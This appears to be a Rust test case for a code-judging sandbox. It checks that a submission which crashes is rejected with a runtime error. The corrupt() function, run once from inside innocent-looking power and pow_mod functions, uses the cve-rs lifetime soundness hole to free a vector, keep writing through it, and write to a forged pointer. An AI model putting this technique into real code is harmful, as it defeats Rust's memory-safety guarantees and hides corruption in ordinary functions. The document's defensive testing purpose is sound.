//! expected-verdict: runtime_error
//! mode: run
//! attack: uses a still-open soundness hole in safe Rust (rust-lang/rust#25860, the cve-rs "fake static" lifetime trick) to free a Vec and keep writing through it (heap corruption), then forges a &'static mut u64 to address 0x10 and writes through it
//! defence: forbid(unsafe_code) is not a security boundary; correctness is still judged outside the process and the kernel delivers SIGSEGV (or glibc aborts on the corrupted heap) -> runtime_error, never accepted, never internal_error

// ---- rust-lang/rust#25860 (implied bounds on a fn pointer), as packaged by cve-rs ----
// Still accepted by rustc 1.95 under #![forbid(unsafe_code)]: `expand_mut` turns a borrow
// of any lifetime into one of any other, which gives use-after-free and `transmute`.
const STATIC_UNIT: &&() = &&();

fn translate<'a, 'b, T: ?Sized>(_witness: &'a &'b (), v: &'b mut T) -> &'a mut T {
    v
}

fn expand_mut<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T {
    let f: for<'x> fn(_, &'x mut T) -> &'b mut T = translate;
    f(STATIC_UNIT, x)
}

enum Dummy<A, B> {
    A(Option<Box<A>>),
    B(Option<Box<B>>),
}

#[inline(never)]
fn transmute_inner<A, B>(dummy: &mut Dummy<A, B>, obj: A) -> B {
    let Dummy::B(slot) = dummy else {
        unreachable!()
    };
    let slot: &mut Option<Box<B>> = expand_mut(slot);
    *dummy = Dummy::A(Some(Box::new(obj)));
    std::hint::black_box(&mut *dummy);
    *slot.take().unwrap()
}

/// `std::mem::transmute` without `unsafe` (A and B must have the same size).
fn transmute<A, B>(obj: A) -> B {
    transmute_inner(std::hint::black_box(&mut Dummy::B(None)), obj)
}

use std::sync::Once;

static ONCE: Once = Once::new();

fn corrupt() {
    let mut v = vec![7u64; 64];
    let stale: &'static mut Vec<u64> = expand_mut(&mut v);
    drop(v);
    for x in stale.iter_mut() {
        *x = 0x4141_4141_4141_4141; // into freed heap memory
    }
    let wild: &'static mut u64 = transmute::<usize, &'static mut u64>(std::hint::black_box(0x10));
    *wild = 0xdead_beef;
}

pub fn power(base: f64, exponent: i32) -> f64 {
    ONCE.call_once(corrupt);
    let mut n = exponent.unsigned_abs();
    let mut b = if exponent < 0 { 1.0 / base } else { base };
    let mut acc = 1.0;
    while n > 0 {
        if n & 1 == 1 {
            acc *= b;
        }
        b *= b;
        n >>= 1;
    }
    acc
}

pub fn pow_mod(base: u64, exponent: u64, modulus: u64) -> u64 {
    ONCE.call_once(corrupt);
    let m = u128::from(modulus);
    let (mut acc, mut b, mut e) = (1 % m, u128::from(base) % m, exponent);
    while e > 0 {
        if e & 1 == 1 {
            acc = acc * b % m;
        }
        b = b * b % m;
        e >>= 1;
    }
    acc as u64
}
